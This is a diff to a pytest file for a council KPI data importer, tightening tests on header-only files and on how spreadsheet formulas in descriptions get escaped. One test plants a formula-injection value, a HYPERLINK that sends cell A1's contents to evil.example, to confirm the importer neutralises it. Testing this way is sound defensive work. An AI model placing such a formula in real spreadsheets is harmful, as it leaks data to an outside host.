@@ -77,12 +77,17 @@ def test_bytes_no_encoding_can_read_are_named_by_line(params_copy):
         loaded(params_copy, data)
 
 
-def test_an_actuals_file_with_only_a_header_is_named(params_copy, capsys):
+def test_an_actuals_file_with_only_a_header_is_named(params_copy, capsys, monkeypatch):
+    monkeypatch.chdir(params_copy.parent)
     (params_copy / "norfolk" / "actuals.csv").write_text(HEADER + "\n")
     build, others = plan(Month.parse("2019-02"), None, params_copy)
-    assert (build, [(o.council, o.status) for o in others]) == ([], [("norfolk", "skipped")])
-    assert "warning: " in (err := capsys.readouterr().err)
-    assert "norfolk/actuals.csv: has a header but no rows, so the council has no figures at all" in err
+    assert (build, [(o.council, o.status, o.reason) for o in others]) == (
+        [],
+        [("norfolk", "skipped", "norfolk has no data for 2019-02 (no data at all)")],
+    )
+    assert capsys.readouterr().err == (
+        "warning: params/norfolk/actuals.csv: has a header but no rows, so the council has no figures at all\n"
+    )
 
 
 def formula_pack(tmp_path, cell):
@@ -130,7 +135,8 @@ def digest(folder):
     return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in folder.glob("*.csv")}
 
 
-def test_a_formula_in_a_description_is_written_as_text_and_said(lincs_copy, tmp_path):
+def test_a_formula_in_a_description_is_written_as_text_and_said(lincs_copy, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
     with open(PACK, encoding="utf-8", newline="") as handle:
         rows = list(csv.reader(handle))
     rows[1][1] = '=HYPERLINK("http://evil.example/?"&A1,"% paid on time")'
@@ -139,13 +145,12 @@ def test_a_formula_in_a_description_is_written_as_text_and_said(lincs_copy, tmp_
     report = import_pack(lincs_copy, "lincolnshire", tmp_path / "pack.csv")
     kpis = (lincs_copy / "lincolnshire" / "kpis.csv").read_text(encoding="utf-8")
     assert 'PM_KPI_01,PM,"\'=HYPERLINK(""http://evil.example/?""&A1,""% paid on time"")"' in kpis
-    assert any(
-        line.endswith(
-            "PM_KPI_01: the description starts like a spreadsheet formula, so kpis.csv holds it "
-            "with a leading ' and spreadsheets show it as text"
-        )
-        for line in report.lines
-    )
+    assert [line for line in report.lines if "PM_KPI_01" in line] == [
+        "pack.csv:2: PM_KPI_01: description changed (was '% of Payroll Recipients paid on the Paym'…)",
+        "pack.csv:2: PM_KPI_01: the description starts like a spreadsheet formula, so kpis.csv holds it "
+        "with a leading ' and spreadsheets show it as text",
+        "pack.csv:2: PM_KPI_01: unchanged",  # its figures
+    ]
     before = digest(lincs_copy / "lincolnshire")
     again = import_pack(lincs_copy, "lincolnshire", tmp_path / "pack.csv")  # the same pack again: no change
     assert digest(lincs_copy / "lincolnshire") == before
